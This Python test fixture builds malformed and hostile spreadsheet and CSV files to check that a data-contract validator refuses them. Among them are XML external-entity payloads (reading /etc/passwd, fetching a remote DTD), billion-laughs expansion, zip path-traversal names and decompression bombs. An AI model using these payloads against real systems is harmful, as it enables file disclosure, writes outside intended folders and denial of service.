"""Hostile, broken and odd files, made from bytes: sent by mistake, or by somebody on purpose.

``HOSTILE`` maps a name to a file and to what the report must then say, no more and no less: rule
ids, with the cell where there is one. A file that is refused has the one rule ``file.<code>``; one
that is read right says what is wrong with its last row, so a row lost on the way shows.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from itertools import starmap

from cfgovern.tables import cell_address
from tests.rawbooks import (
    PACKAGE,
    STRICT,
    XML,
    Entry,
    book,
    number,
    packed,
    parts,
    repeated,
    row,
    shared,
    sheet,
    text,
    text_row,
    zipped,
)

CONTRACT = """\
apiVersion: v3.1.0
kind: DataContract
id: urn:example:members
name: Members
version: 1.0.0
status: active
schema:
  - name: members
    properties:
      - {name: member_id, logicalType: string, required: true, logicalTypeOptions: {pattern: '^M-[0-9]{3}$'}}
      - {name: full_name, logicalType: string}
      - {name: joined, logicalType: date}
      - {name: age, logicalType: integer, logicalTypeOptions: {minimum: 16, maximum: 120}}
"""


@dataclass(frozen=True)
class Made:
    """A file: ``make(canary)`` are its bytes, ``codes`` what the report says about it."""

    filename: str
    make: Callable[[str], bytes]
    codes: tuple[str, ...]


HEADINGS = ("member_id", "full_name", "joined", "age")


def rows(canary: str) -> list[str]:
    """Headings, one row in order and one whose age is no number: ``members.age.type D3``."""
    return [
        text_row(1, *HEADINGS),
        text_row(2, "M-001", canary, "2020-01-01", "40"),
        text_row(3, "M-002", canary, "2020-01-01", canary),
    ]


READ = ("members.age.type D3",)


def honest(canary: str) -> bytes:
    """A workbook with nothing odd about it."""
    return book(sheet(*rows(canary)))


def with_cell(cell: str, strings: str | None = None, at: int = 4) -> Callable[[str], bytes]:
    """The honest rows and one more with ``cell``; CANARY in it stands for the canary."""

    def make(canary: str) -> bytes:
        given = strings.replace("CANARY", canary) if strings is not None else None
        return book(sheet(*rows(canary), row(at, cell.replace("CANARY", canary))), strings=given)

    return make


def with_sheet(make: Callable[[list[str]], str]) -> Callable[[str], bytes]:
    """A workbook whose sheet is made from the honest rows."""
    return lambda canary: book(make(rows(canary)))


def with_part(name: str, body: str) -> Callable[[str], bytes]:
    """The honest workbook with one part more, or another in its place."""
    return lambda canary: packed(parts(sheet(*rows(canary))) | {name: body.replace("CANARY", canary)})


def with_entry(*entries: Entry) -> Callable[[str], bytes]:
    """The honest workbook with more zip entries."""
    return lambda canary: packed(parts(sheet(*rows(canary))), *entries)


def huge_part(name: str, before: str, block: str, times: int, after: str) -> Callable[[str], bytes]:
    """The honest workbook with one part that unpacks to something huge."""

    def make(canary: str) -> bytes:
        made = parts(sheet(*rows(canary)), strings=shared())
        del made[name]
        filling = repeated(before.encode(), block.encode(), times, after.encode())
        return packed(made, Entry(name, **filling))  # type: ignore[arg-type]

    return make


SHEET1, STRINGS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
MIB = 1 << 20
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "CANARY"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://203.0.113.1/a.dtd"> %a;]>'
CORE = f"{PACKAGE}/metadata/core-properties"


def strict_book(canary: str) -> bytes:
    made = parts(sheet(*rows(canary)))
    for old, new in STRICT.items():
        made = {name: body.replace(old, new) for name, body in made.items()}
    return packed(made)


def lying_size(canary: str) -> bytes:
    body = sheet(*rows(canary)).encode() + b" " * 10 * MIB
    made = parts(sheet())
    del made[SHEET1]
    return packed(made, Entry(SHEET1, body, size=10))


def flipped(canary: str) -> bytes:
    data = bytearray(honest(canary))
    data[data.index(SHEET1.encode()) + len(SHEET1) + 50] ^= 0x10
    return bytes(data)


def unlisted(canary: str) -> bytes:
    made = parts(sheet(*rows(canary)))
    made["xl/workbook.xml"] = made["xl/workbook.xml"].replace('r:id="rId1"', 'r:id="rId9"')
    return packed(made)


def without_part(canary: str) -> bytes:
    made = parts(sheet(*rows(canary)))
    del made[SHEET1]
    return packed(made)


def two_parts_one_sheet(canary: str) -> bytes:
    made = parts(sheet(*rows(canary)), sheet(*rows(canary)))
    links = made["xl/_rels/workbook.xml.rels"]
    made["xl/_rels/workbook.xml.rels"] = links.replace("sheet2.xml", "sheet1.xml")
    return packed(made)


def ole(*names: str) -> bytes:
    """The head of an old Office container with streams of these names."""
    directory = b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in ("Root Entry", *names))
    return (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(512, b"\0") + directory).ljust(4096, b"\0")


def csv_bytes(canary: str, ending: str = "\n") -> bytes:
    lines = [",".join(HEADINGS), f"M-001,{canary},2020-01-01,40", f"M-002,{canary},2020-01-01,{canary}", ""]
    return ending.join(lines).encode()


def typed_rows() -> str:
    """Dates, whole numbers and truth values as a spreadsheet stores them."""
    return sheet(
        text_row(1, *HEADINGS),
        row(2, text("M-001", "A2"), text("x", "B2"), number("43831", "C2", 1), number("40", "D2")),
        row(3, text("M-002", "A3"), text("x", "B3"), number("1", "C3", 0, "b"), number("40.5", "D3")),
        row(4, text("M-003", "A4"), text("x", "B4"), number("0.5", "C4", 2), number("1E2", "D4")),
        row(5, text("M-004", "A5"), text("x", "B5"), "", number("#N/A", "D5", 0, "e")),
    )


WORKBOOKS: dict[str, tuple[Callable[[str], bytes], tuple[str, ...]]] = {
    # Read right, or refused, but never quietly wrong.
    "an honest workbook": (honest, READ),
    "typed cells": (
        lambda _: book(typed_rows()),
        ("members.joined.type C3", "members.joined.type C4", "members.age.type D3", "members.age.type D5"),
    ),
    "dimension says one cell": (with_sheet(lambda made: sheet(*made, before='<dimension ref="A1"/>')), READ),
    "dimension says the whole grid": (
        with_sheet(lambda made: sheet(*made, before='<dimension ref="A1:XFD1048576"/>')),
        READ,
    ),
    "merged over the whole grid": (
        with_sheet(
            lambda made: sheet(*made, after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')
        ),
        READ,
    ),
    "strict OOXML": (strict_book, READ),
    "prefixed elements": (
        lambda canary: book(
            sheet(*rows(canary))
            .replace("<", "<x:")
            .replace("<x:/", "</x:")
            .replace("<x:?", "<?")
            .replace("xmlns=", "xmlns:x=")
        ),
        READ,
    ),
    "cells and rows without their places": (
        lambda canary: book(
            sheet(
                *(
                    made.replace(f' r="{n}"', "")
                    for n, made in enumerate(
                        [
                            "<row>" + "".join(map(text, values)) + "</row>"
                            for values in (
                                HEADINGS,
                                ("M-001", canary, "2020-01-01", "40"),
                                ("M-002", canary, "2020-01-01", "x"),
                            )
                        ]
                    )
                )
            )
        ),
        READ,
    ),
    "rich and phonetic text": (
        lambda canary: book(
            sheet(
                text_row(1, *HEADINGS),
                text_row(2, "M-001", canary, "2020-01-01", "40"),
                row(
                    3,
                    number("0", "A3", 0, "s"),
                    number("1", "B3", 0, "s"),
                    text("2020-01-01", "C3"),
                    text("x", "D3"),
                ),
            ),
            strings=shared(
                "<r><t>M-</t></r><r><rPr><b/></rPr><t>002</t></r>",
                f"<t>{canary}</t><rPh sb='0' eb='1'><t>{canary}</t></rPh>",
            ),
        ),
        READ,
    ),
    "a title merged above the headings": (
        lambda canary: book(
            sheet(
                text_row(1, canary),
                text_row(2, *HEADINGS),
                text_row(3, "M-001", canary, "2020-01-01", canary),
                after='<mergeCells count="1"><mergeCell ref="A1:D1"/></mergeCells>',
            )
        ),
        ("members.titles_above", *READ),
    ),
    "headings merged with their neighbours": (
        lambda canary: book(
            sheet(
                text_row(1, "member_id", "full_name", "", "joined", "age"),
                text_row(2, "M-001", canary, canary, "2020-01-01", "40"),
                after='<mergeCells count="1"><mergeCell ref="B1:C1"/></mergeCells>',
            )
        ),
        ("members.column_c.column_extra C1",),
    ),
    "a hidden sheet": (
        lambda canary: book(
            sheet(*rows(canary)),
            sheet(text_row(1, canary)),
            names=("members", canary),
            states=("visible", "veryHidden"),
        ),
        ("file.table_extra", *READ),
    ),
    "the table itself hidden": (
        lambda canary: book(sheet(*rows(canary)), states=("hidden",)),
        ("members.sheet_hidden", *READ),
    ),
    "a stray cell in the last row of the grid": (
        with_cell(text("CANARY", "B1048576"), at=1_048_576),
        ("members.blank_rows", *READ, "members.member_id.required A1048576"),
    ),
    "half a million empty cells with a style": (
        with_sheet(lambda made: sheet(*made, ("<row>" + '<c s="1"/>' * 5 + "</row>") * 100_000)),
        READ,
    ),
    "an empty text in the far corner": (
        with_cell(number("0", "XFD1048576", 0, "s"), shared("<t></t>"), at=1_048_576),
        ("file.too_many_columns",),
    ),
    "a formula with its result": (
        with_cell('<c r="D4"><f>1+1</f><v>41</v></c>', at=4),
        (*READ, "members.member_id.required A4"),
    ),
    "error cells": (
        with_cell('<c r="B4" t="e"><v>#REF!</v></c>'),
        (*READ, "members.full_name.type B4", "members.member_id.required A4"),
    ),
    # Refused.
    "one cell at the far corner": (
        with_cell(text("CANARY", "XFD1048576"), at=1_048_576),
        ("file.too_many_columns",),
    ),
    "a cell beyond the grid": (with_cell(text("CANARY", "ZZZZZ99999999")), ("file.outside_grid",)),
    "a cell beyond the last row": (
        with_cell(text("CANARY", "A1048577"), at=1_048_577),
        ("file.outside_grid",),
    ),
    "a cell beyond the last column": (with_cell(text("CANARY", "XFE4")), ("file.outside_grid",)),
    "a row number that is no number": (
        with_sheet(lambda made: sheet(*made, '<row r="-1"/>')),
        ("file.damaged",),
    ),
    "rows out of order": (with_sheet(lambda made: sheet(made[0], made[2], made[1])), ("file.damaged",)),
    "a row twice": (with_sheet(lambda made: sheet(*made, made[2])), ("file.damaged",)),
    "a cell twice": (with_cell(text("CANARY", "A4") + text("x", "A4")), ("file.damaged",)),
    "a cell in another row's place": (with_cell(text("CANARY", "A2")), ("file.damaged",)),
    "cells outside any row": (
        with_sheet(lambda made: sheet(*made).replace("</sheetData>", text("x", "A4") + "</sheetData>")),
        ("file.damaged",),
    ),
    "shared strings count 4294967295": (
        with_cell(number("0", "B4", 0, "s"), shared("<t>CANARY</t>", count="4294967295")),
        ("file.damaged",),
    ),
    "shared strings count 1.8e18": (
        with_cell(number("0", "B4", 0, "s"), shared("<t>CANARY</t>", count="1800000000000000000")),
        ("file.damaged",),
    ),
    "shared strings count -1": (
        with_cell(number("0", "B4", 0, "s"), shared("<t>CANARY</t>", count="-1")),
        ("file.damaged",),
    ),
    "string index -1": (
        with_cell(number("-1", "B4", 0, "s"), shared("<t>CANARY</t>")),
        ("file.string_index",),
    ),
    "string index past the end": (
        with_cell(number("1", "B4", 0, "s"), shared("<t>CANARY</t>")),
        ("file.string_index",),
    ),
    "string index without strings": (with_cell(number("0", "B4", 0, "s")), ("file.string_index",)),
    "billion laughs in a sheet": (
        with_part(SHEET1, sheet("<row><c t='str'><v>&d;</v></c></row>", top=XML + LAUGHS)),
        ("file.doctype",),
    ),
    "outside entity in a sheet": (
        with_part(SHEET1, sheet("<row><c t='str'><v>&a;</v></c></row>", top=XML + OUTSIDE)),
        ("file.doctype",),
    ),
    "outside entity in the shared strings": (
        with_cell(number("0", "B4", 0, "s"), shared("<t>&a;</t>", top=XML + OUTSIDE)),
        ("file.doctype",),
    ),
    "outside entity in the properties": (
        with_part("docProps/core.xml", f'{XML}{OUTSIDE}<c xmlns="{CORE}">&a;CANARY</c>'),
        ("file.doctype",),
    ),
    "a parameter entity in the relations": (
        with_part("xl/worksheets/_rels/sheet1.xml.rels", f"{XML}{PARAMETER}<Relationships/>"),
        ("file.doctype",),
    ),
    "an entity nobody declared": (
        with_part(SHEET1, sheet("<row><c t='str'><v>&nbsp;CANARY</v></c></row>")),
        ("file.damaged",),
    ),
    "a part in UTF-16": (
        lambda canary: packed(
            {k: v for k, v in parts(sheet()).items() if k != SHEET1},
            Entry(SHEET1, sheet(*rows(canary), top="").encode("utf-16")),
        ),
        ("file.damaged",),
    ),
    "a sheet twice in the zip": (
        lambda canary: packed(parts(sheet(*rows(canary))), Entry(SHEET1, sheet().encode())),
        ("file.doubled_part",),
    ),
    "a sheet twice but for its case": (
        lambda canary: packed(
            parts(sheet(*rows(canary))), Entry("XL/worksheets\\Sheet1.xml", sheet().encode())
        ),
        ("file.doubled_part",),
    ),
    "a lie about the size": (lying_size, ("file.damaged",)),
    "a name that differs inside": (
        with_entry(Entry("xl/media/a.xml", b"<a/>", local_name="xl/media/b.xml")),
        ("file.damaged",),
    ),
    "an unknown packing": (with_entry(Entry("xl/media/a.xml", b"<a/>", method=97)), ("file.damaged",)),
    "a part under a password": (
        with_entry(Entry("xl/media/a.xml", b"<a/>", flags=0x801)),
        ("file.password",),
    ),
    "a name that climbs out": (with_entry(Entry("../../evil.txt", b"x")), ("file.unsafe_name",)),
    "a name that climbs out the Windows way": (
        with_entry(Entry("xl\\..\\..\\evil.txt", b"x")),
        ("file.unsafe_name",),
    ),
    "a name from the root": (with_entry(Entry("/etc/evil.txt", b"x")), ("file.unsafe_name",)),
    "a name on a drive": (with_entry(Entry("C:/evil.txt", b"x")), ("file.unsafe_name",)),
    "too many parts": (
        with_entry(*starmap(Entry, ((f"xl/media/{n}.bin", b"") for n in range(5_001)))),
        ("file.too_large",),
    ),
    "truncated": (lambda canary: honest(canary)[:-200], ("file.damaged",)),
    "a bit flipped": (flipped, ("file.damaged",)),
    "a sheet without its part": (without_part, ("file.damaged",)),
    "a relation to nothing": (unlisted, ("file.damaged",)),
    "one part for two sheets": (two_parts_one_sheet, ("file.damaged",)),
    "no sheets": (lambda _: book(), ("file.no_sheets",)),
    "two sheets of one name": (
        lambda canary: book(sheet(*rows(canary)), sheet(*rows(canary)), names=("members", "Members")),
        ("file.doubled_sheet",),
    ),
    "half a sheet": (with_part(SHEET1, sheet(*rows("CANARY"))[:-40]), ("file.damaged",)),
    "a formula without its result": (with_cell('<c r="D4"><f>1+1</f></c>'), ("file.formula",)),
    "a number of sixteen figures": (with_cell(number("1234567890123456", "B4")), ("file.long_number",)),
    "a control character": (with_cell(text("CANARY_x0000_", "B4")), ("file.control_character",)),
    "a row of 2,000 long texts": (
        with_cell(
            "".join(number("0", cell_address(at, 4), 0, "s") for at in range(2000)),
            shared(f"<t>CANARY{'é' * 32_000}</t>"),
        ),
        ("file.record_too_long",),
    ),
    "a date that cannot be": (with_cell(number("1e300", "C4", 1)), ("file.long_number",)),
    "a number that is none": (with_cell(number("CANARY", "D4")), ("file.damaged",)),
    "macros": (with_entry(Entry("xl/vbaProject.bin", b"x")), ("file.macros",)),
    # Small on disk, huge when unpacked.
    "a cell of 1 GiB": (
        huge_part(
            SHEET1,
            sheet().partition("</sheetData>")[0] + '<row r="1"><c r="A1" t="inlineStr"><is><t>',
            "x" * MIB,
            1024,
            "</t></is></c></row></sheetData></worksheet>",
        ),
        ("file.cell_too_long",),
    ),
    "2 GiB of white space": (
        huge_part(SHEET1, sheet().partition("</sheetData>")[0], " " * MIB, 2048, "</sheetData></worksheet>"),
        ("file.too_large",),
    ),
    "a tag of 1 GiB": (
        huge_part(
            SHEET1, sheet().partition("</sheetData>")[0] + '<row r="1" spans="', "x" * MIB, 1024, '"/>'
        ),
        ("file.too_large",),
    ),
    "a shared string of 300 MB": (
        huge_part(STRINGS, shared().replace("</sst>", "<si><t>"), "x" * MIB, 300, "</t></si></sst>"),
        ("file.too_large",),
    ),
    "20 million shared strings": (
        huge_part(STRINGS, shared().replace("</sst>", ""), "<si><t>x</t></si>" * 20_000, 1000, "</sst>"),
        ("file.too_large",),
    ),
    "half a million levels": (
        with_part(SHEET1, sheet("<a>" * 500_000 + "</a>" * 500_000)),
        ("file.too_large",),
    ),
    "half a million levels in a part nobody reads": (
        with_part("xl/comments1.xml", XML + "<a>" * 500_000 + "CANARY" + "</a>" * 500_000),
        ("file.too_large",),
    ),
}

# -- what is no workbook, whatever its name says ---------------------------------------------------

OTHERS: dict[str, tuple[Callable[[str], bytes], tuple[str, ...]]] = {
    "nothing at all": (lambda _: b"", ("file.empty",)),
    "an encrypted workbook": (lambda _: ole("EncryptionInfo", "EncryptedPackage"), ("file.password",)),
    "an old workbook": (lambda _: ole("Workbook"), ("file.old_workbook",)),
    "an old document": (lambda _: ole("WordDocument"), ("file.wrong_kind",)),
    "a binary workbook": (lambda _: zipped([Entry("xl/workbook.bin", b"x")]), ("file.wrong_kind",)),
    "an OpenDocument sheet": (
        lambda canary: zipped(
            [
                Entry("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
                Entry("content.xml", canary.encode()),
            ]
        ),
        ("file.wrong_kind",),
    ),
    "a document": (
        lambda canary: zipped([Entry("word/document.xml", canary.encode())]),
        ("file.wrong_kind",),
    ),
    "a zip of CSV files": (
        lambda canary: zipped([Entry("members.csv", csv_bytes(canary))]),
        ("file.wrong_kind",),
    ),
    "an empty zip": (lambda _: zipped([]), ("file.wrong_kind",)),
    "a web page": (lambda canary: f"<html><table><tr><td>{canary}</table>".encode(), ("file.wrong_kind",)),
    "an XML spreadsheet of 2003": (
        lambda canary: (
            f'{XML}<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">{canary}'.encode()
        ),
        ("file.wrong_kind",),
    ),
    "a PDF": (lambda canary: b"%PDF-1.7\n" + canary.encode(), ("file.wrong_kind",)),
    "a picture": (lambda canary: b"\x89PNG\r\n\x1a\n" + canary.encode(), ("file.wrong_kind",)),
    "random bytes": (
        lambda _: bytes((n * n * 7 + n * 13) % 251 for n in range(5000)),
        ("file.encoding",),
    ),
    "a CSV file under the name of a workbook": (csv_bytes, READ),
}

# -- CSV -------------------------------------------------------------------------------------------


def lines(*extra: str) -> Callable[[str], bytes]:
    """The honest lines and more; CANARY in them stands for the canary."""
    return lambda canary: (
        csv_bytes(canary) + "".join(f"{line}\n".replace("CANARY", canary) for line in extra).encode()
    )


def encoded(encoding: str, mark: bytes = b"") -> Callable[[str], bytes]:
    """The honest lines with an accent, in another encoding."""
    return lambda canary: mark + csv_bytes(canary + " Zoë").decode().encode(encoding)


def separated(separator: str) -> Callable[[str], bytes]:
    """The honest lines with another separator."""
    return lambda canary: csv_bytes(canary).replace(b",", separator.encode())


def headed(heading: str) -> Callable[[str], bytes]:
    """The honest lines under another heading."""
    return lambda canary: (heading + "\n").encode() + csv_bytes(canary).split(b"\n", 1)[1]


def each_line(end: str) -> Callable[[str], bytes]:
    """The honest lines with something at the end of each."""
    return lambda canary: csv_bytes(canary, f"{end}\n")


CSVS: dict[str, tuple[Callable[[str], bytes], tuple[str, ...]]] = {
    "an honest CSV file": (csv_bytes, READ),
    "short record": (lines("M-003,CANARY"), ("file.ragged",)),
    "long record": (lines("M-003,CANARY,2020-01-01,40,CANARY"), ("file.ragged",)),
    "a quotation mark left open": (lines('M-003,"CANARY,2020-01-01,40'), ("file.csv_quotes",)),
    "a stray quotation mark": (lines('M-003,"CAN"ARY,2020-01-01,40'), ("file.csv_quotes",)),
    "a nought byte": (lines("M-003,CANARY\0,2020-01-01,40"), ("file.control_character",)),
    "UTF-8 with its mark": (encoded("utf-8-sig"), READ),
    "UTF-16 with its mark": (encoded("utf-16"), READ),
    "UTF-16 the other way round": (encoded("utf-16-be", b"\xfe\xff"), READ),
    "UTF-16 without its mark": (encoded("utf-16-le"), READ),
    "UTF-16 the other way round without its mark": (encoded("utf-16-be"), READ),
    "half a UTF-16 character": (lambda canary: encoded("utf-16")(canary) + b"\0", ("file.encoding",)),
    "UTF-32": (encoded("utf-32"), ("file.control_character",)),
    "Windows text": (encoded("cp1252"), ("members.windows_text", *READ)),
    "bad bytes": (lambda canary: csv_bytes(canary) + b"M-003,\x81\x8d,2020-01-01,40\n", ("file.encoding",)),
    "carriage returns only": (lambda canary: csv_bytes(canary, "\r"), READ),
    "mixed line ends": (lambda canary: csv_bytes(canary).replace(b"\n", b"\r\n", 1), READ),
    "semicolons": (separated(";"), ("file.separator",)),
    "tabs": (separated("\t"), ("file.separator",)),
    "a cell of 3 MB": (lines("M-003," + "x" * 3_000_000 + ",2020-01-01,40"), ("file.cell_too_long",)),
    "a cell of 131,073 characters": (
        lines("M-003," + "x" * 131_073 + ",2020-01-01,40"),
        ("file.cell_too_long",),
    ),
    "one line of 64 MiB": (lambda canary: canary.encode() + b"," * (64 * MIB), ("file.line_too_long",)),
    "a heading twice": (headed("member_id,full_name,full_name,joined,age"), ("file.ragged",)),
    "a heading twice with its cells": (
        lambda canary: f"member_id,full_name,joined,age,age\nM-001,{canary},2020-01-01,40,50\n".encode(),
        ("members.age.column_duplicate E1",),
    ),
    "an empty heading": (
        headed("member_id,,joined,age"),
        ("members.column_b.column_extra B1", "members.full_name.column_missing", *READ),
    ),
    "a heading that holds data": (
        headed("member_id,CANARY,joined,age"),
        ("members.column_b.column_extra B1", "members.full_name.column_missing", *READ),
    ),
    "headings only": (lambda _: b"member_id,full_name,joined,age\n", ()),
    "white space only": (lambda _: b" \n\n\t\n", ("members.header_missing",)),
    "a record that starts with #": (
        lines("#1,CANARY,2020-01-01,40"),
        (*READ, "members.member_id.pattern A4"),
    ),
    "titles above the headings": (
        lambda canary: f"{canary},,,\n,,,\n".encode() + csv_bytes(canary),
        ("members.titles_above", "members.age.type D5"),
    ),
    "a comma at the end of each line": (each_line(","), READ),
    "blank lines in the middle": (
        lambda canary: csv_bytes(canary).replace(b"\nM-002", b"\n\n,,,\n\nM-002"),
        ("members.blank_rows", "members.age.type D6"),
    ),
    "a line break in a cell": (
        lines('M-003,"CANARY\r\nCANARY",2020-01-01,40', "M-004,x,2020-01-01,x"),
        (*READ, "members.age.type D5"),
    ),
}


def _named(made: dict[str, tuple[Callable[[str], bytes], tuple[str, ...]]], filename: str) -> dict[str, Made]:
    return {name: Made(filename, make, codes) for name, (make, codes) in made.items()}


HOSTILE: dict[str, Made] = {
    **_named(WORKBOOKS, "members.xlsx"),
    **_named(OTHERS, "members.xlsx"),
    **_named(CSVS, "members.csv"),
}
